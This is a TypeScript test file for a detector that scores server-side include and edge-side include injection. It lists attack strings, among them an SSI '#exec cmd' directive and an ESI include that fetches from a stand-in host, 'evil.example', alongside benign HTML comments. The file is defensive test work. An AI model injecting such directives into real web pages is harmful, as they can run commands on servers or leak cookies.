import { expect, test } from 'bun:test'
import { serverSideInclude } from '../../../src/hooks/anomaly/detectors/server-side-include.ts'

const score = (text: string, layers = 0): number =>
  serverSideInclude({ text, lower: text.toLowerCase(), layers, place: 'body' })

const attacks: readonly [what: string, ...texts: string[]][] = [
  [
    'a directive of Apache or nginx',
    '<!--#exec cmd="id" -->',
    '<!--#INCLUDE virtual="/x"-->',
    'a<!--#echo var="x" -->b',
    '<!--#printenv -->',
    '<!-- #exec cgi="/x" -->',
    '<!--#goto label="x" -->',
  ],
  ['a directive of the edge', '<esi:include src="//evil.example/"/>', '$(HTTP_COOKIE{a})'],
]

const honest: readonly [what: string, ...texts: string[]][] = [
  ['a comment', '<!-- # 1 --> <!--#region a--> <!-- #if you like --> <!--[if mso]>'],
  ['a command and its output', 'echo $(date) $(http_get x)'],
]

const repeated = ['<!--#', '<!-- ', '<esi:', '$(http_']

for (const [what, ...texts] of attacks)
  test(`${what} is found`, () => {
    expect(texts.filter((text) => score(text) < 0.5)).toEqual([])
  })

for (const [what, ...texts] of honest)
  test(`${what} passes`, () => {
    expect(texts.filter((text) => score(text) >= 0.5)).toEqual([])
  })

for (const piece of repeated)
  test(`100 KB of ${JSON.stringify(piece)} are judged`, () => {
    expect(score(piece.repeat(102_400 / piece.length))).toBeWithin(0, 1.01)
  })
